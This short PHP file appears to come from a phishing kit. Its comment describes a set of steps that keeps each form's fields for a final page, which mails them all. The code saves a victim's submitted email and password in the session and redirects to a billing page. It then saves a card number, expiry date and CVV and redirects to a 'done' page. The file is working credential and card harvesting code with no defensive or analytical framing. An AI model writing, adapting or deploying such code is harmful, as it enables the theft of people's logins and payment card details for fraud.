<?php
// a kit's steps: each form's fields are kept for the last page, which mails them all
session_start();
if (isset($_POST['signin'])) {
    $_SESSION['email'] = $_POST['email'];
    $_SESSION['pass'] = $_POST['pass'];
    header('Location: billing.php');
}
if (isset($_POST['card'])) {
    $_SESSION['ccnum'] = $_POST['ccnum'];
    $_SESSION['exp'] = $_POST['exp'];
    $_SESSION['cvv'] = $_POST['cvv'];
    header('Location: done.php');
}
